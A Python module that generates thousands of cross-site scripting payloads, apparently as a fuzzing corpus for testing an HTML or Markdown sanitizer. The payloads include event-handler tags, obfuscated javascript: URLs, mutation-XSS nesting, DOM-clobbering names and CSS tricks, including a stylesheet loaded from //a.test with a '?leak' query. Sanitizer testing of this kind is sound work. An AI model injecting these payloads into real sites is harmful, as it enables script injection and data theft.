"""Attacks by the thousand, put together from parts: every payload in every place where one was ever overlooked."""

import random
from collections.abc import Iterator, Sequence
from itertools import product
from typing import Final

RUN: Final = "alert(1)"
HANDLERS: Final = (
    "onabort onafterprint onanimationend onanimationstart onauxclick onbeforeinput onbeforetoggle onblur oncanplay"
    " onclick oncontextmenu oncopy oncut ondblclick ondrag ondrop onerror onfocus onfocusin onformdata onhashchange"
    " oninput oninvalid onkeydown onload onloadstart onmessage onmouseenter onmouseover onpageshow onpaste onplay"
    " onpointerover onpopstate onreset onresize onscroll onscrollend onsecuritypolicyviolation onselect onslotchange"
    " onsubmit onsuspend ontoggle ontouchstart ontransitionend onunload onwebkitanimationend onwheel"
).split()
TAGS: Final = (
    "a abbr article audio b blockquote body br button caption code custom-x dd del details dialog div dl embed fieldset"
    " figure font footer form frame frameset h1 head hr html i iframe image img input isindex kbd label legend li link"
    " main map marquee math menu meta meter nav object ol option output p param picture portal pre progress q ruby s"
    " script section select slot source span strong style sub summary sup svg table tbody td template textarea tfoot th"
    " thead time title tr track tt u ul var video wbr xmp xss"
).split()
URLS: Final[Sequence[str]] = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" \t\njavascript:{RUN}",
    f"\x01\x1fjavascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\r\nscript:{RUN}",
    f"j&#97;vascript:{RUN}",
    f"java&#x0000000000000073;cript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript&#58{RUN}",
    f"java&NewLine;script&Tab;:{RUN}",
    f"&#1;javascript:{RUN}",
    f"javascript:/*--></title></style></textarea></script><svg/onload='{RUN}'>",
    f"javascript://a.test/%0a{RUN}",
    f"jav\u00adascript:{RUN}",
    f"jav\u200bascript:{RUN}",
    f"\ufeffjavascript:{RUN}",
    f"\u00a0javascript:{RUN}",
    f"\u2028javascript:{RUN}",
    f"ｊavascript:{RUN}",
    f"javaſcript:{RUN}",
    f"javascript\uff1a{RUN}",
    f"\\x6aavascript:{RUN}",
    f"%6aavascript:{RUN}",
    f"vbscript:{RUN}",
    f"livescript:{RUN}",
    f"mocha:{RUN}",
    f"feed:javascript:{RUN}",
    f"view-source:javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"DATA:,<script>{RUN}</script>",
    "blob:null/1",
    "filesystem:http://a.test/x",
    "file:///etc/passwd",
    "intent://x#Intent;end",
    "about:blank",
    "chrome://settings",
)
URL_PLACES: Final[Sequence[str]] = (
    '<a href="{}">x</a>',
    "<a href='{}' target=_top rel=opener ping='{}'>x</a>",
    "<a href={}>x</a>",
    '<a xlink:href="{}">x</a>',
    '<svg><a href="{}"><text>x</text></a></svg>',
    '<svg><use href="{}"/></svg>',
    '<svg><set attributeName="href" to="{}"/></svg>',
    '<math><mi href="{}">x</mi></math>',
    '<img src="{}" srcset="{} 2x" longdesc="{}" usemap="{}">',
    '<video src="{}" poster="{}"><source src="{}"><track src="{}"></video>',
    '<audio src="{}"></audio>',
    '<form action="{}"><button formaction="{}">x</button><input type=image src="{}"></form>',
    '<iframe src="{}" srcdoc="{}"></iframe>',
    '<object data="{}" codebase="{}"><param name=src value="{}"></object>',
    '<embed src="{}">',
    '<link rel=stylesheet href="{}">',
    '<base href="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    '<table background="{}"><td background="{}">x</table>',
    '<body background="{}">',
    '<blockquote cite="{}">x</blockquote>',
    '<q cite="{}">x</q>',
    '<p style="background:url({})">x</p>',
    '<area href="{}"><map name=m><area href="{}" shape=default></map>',
    '<portal src="{}"></portal>',
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "[x]: {}\n\n[x] ![x]",
    "<{}>",
    "[^1]\n\n[^1]: [x]({})",
    "|a|\n|-|\n|[x]({})|",
    "# [x]({})",
    "> - 1. [x]({} 'title')",
)
HIDING_PLACES: Final = (
    "noscript style title textarea xmp noembed noframes iframe script plaintext template select option math svg desc"
    " foreignObject mtext mi annotation-xml mglyph malignmark table caption colgroup"
).split()
HIDDEN: Final[Sequence[str]] = (
    "<{1}><p title='</{0}><img src=x onerror=alert(1)>'></{1}>",
    "<{0}><{1}><img src=x onerror=alert(1)></{1}></{0}>",
    "<{0}><!--</{0}><img src=x onerror=alert(1)>--></{0}>",
    "<{0}><{1}></{0}><img src=x onerror=alert(1)></{1}>",
    "<{0}></p><{1}><a title='</{1}></{0}><img src=x onerror=alert(1)>'>",
    "<form><{0}><{1}></form><form></{0}><img src=x onerror=alert(1)>",
    "<{0}><b><p><{1}><b><table><a title='</{1}><img src=x onerror=alert(1)>'></table>",
    "<{0} id='<!--'><{1} id='--><img src=x onerror=alert(1)>'></{1}></{0}>",
    "<{0}><![CDATA[</{0}><{1}><img src=x onerror=alert(1)>]]></{0}>",
)
NAMES: Final = (
    "location cookie body head forms images scripts all domain getElementById createElement querySelector write"
    " currentScript defaultView documentElement innerHTML attributes parentNode firstChild nodeName constructor"
    " __proto__ prototype toString valueOf hasOwnProperty window self top parent frames name length alert fetch"
    " localStorage navigator document config analytics undefined null"
).split()
CLOBBERING: Final[Sequence[str]] = (
    "<a id={0} name={0} href=x>y</a>",
    "<a id={0}></a><a id={0} name=x></a>",
    "<img name={0} id={0}>",
    "<form id={0} name={0}><input name={0}><input id=attributes></form>",
    "<embed name={0}><object id={0} name={0}></object><iframe name={0}></iframe>",
    "<h1 id={0} name={0}>x</h1>",
    "# {0}",
    "## `{0}`\n\n[x](#{0})\n\n[^{0}]\n\n[^{0}]: {0}",
    "<p id=user-content-{0} class={0}>x</p><table><td headers={0}>x</table><label for={0}>x</label>",
)
ODD: Final = (
    "\0 \x01 \x0b \x0c \x1f \x7f \x85 \xa0 \xad \u200b \u200e \u202e \u2028 \ufeff \ufffe \U000e0041 İ ſ K".split(" ")
)
ODDLY: Final[Sequence[str]] = (
    "<img{0}src=x{0}onerror=alert(1)>",
    "<{0}script>alert(1)</script{0}>",
    "<scr{0}ipt>alert(1)</scr{0}ipt>",
    "<img src=x on{0}error=alert(1) {0}onerror=alert(1) onerror{0}=alert(1)>",
    "<a href='java{0}script:alert(1)'>x</a><a href='{0}javascript:alert(1)'>x</a>",
    "<!--{0}--><img src=x onerror=alert(1)>--{0}>",
    "<p title='{0}><img src=x onerror=alert(1)>{0}'>x</p>",
    '# {0}<b>"onclick=alert(1) x="{0}',
    '```{0}" onclick="alert(1)\nx\n```',
    "[x{0}](y{0} '{0}\" onclick=\"alert(1)')",
)
CSS: Final[Sequence[str]] = (
    "<p style='x:expression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//a.test)'>x</p>",
    "<p style='behavior:url(x.htc)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9'>x</p>",
    "<style>@import '//a.test/x.css'; * {background: url('//a.test/?leak')}</style>",
    "<link rel=import href=x><link rel=preload as=script href=//a.test/x.js>",
    "<p style='width:e/**/xpression(alert(1))' class='btn modal'>x</p>",
    "<svg><style>*{x:y}</style></svg><font color=red face=x size=7>x</font>",
)


def attacks() -> Iterator[str]:
    """All of them, some 9,000."""
    yield from (f"<{tag} src=x {handler}={RUN}>x</{tag}>" for tag, handler in product(TAGS, HANDLERS[::7]))
    yield from (f"<{tag}/{handler}='{RUN}' autofocus tabindex=1>x" for tag, handler in product(TAGS[::9], HANDLERS))
    yield from (place.replace("{}", url) for place, url in product(URL_PLACES, URLS))
    yield from (how.format(outer, inner) for how, outer, inner in product(HIDDEN, HIDING_PLACES, HIDING_PLACES))
    yield from (how.format(name) for how, name in product(CLOBBERING, NAMES))
    yield from (how.format(character) for how, character in product(ODDLY, ODD))
    yield from CSS


def sample(seed: int, number: int) -> list[str]:
    """So many of them."""
    return random.Random(seed).sample(list(attacks()), number)


def mixtures(seed: int, number: int) -> Iterator[str]:
    """Some in some others, cut and turned around, with Markdown between them."""
    chance, parts = random.Random(seed), list(attacks())
    glue = ["", " ", "\n", "\n\n", "\n> ", "\n- ", "\n|-|\n", "```\n", *"`|*_[)<>\"'", "**", "~~", "](", "<!--", "-->"]
    for _ in range(number):
        mixed = ""
        for part in chance.choices(parts, k=chance.randint(2, 6)):
            begin, end = sorted(chance.choices(range(len(part) + 1), k=2))
            mixed += chance.choice([part, part, part[begin:end], part[end:] + part[:begin]]) + chance.choice(glue)
        yield mixed
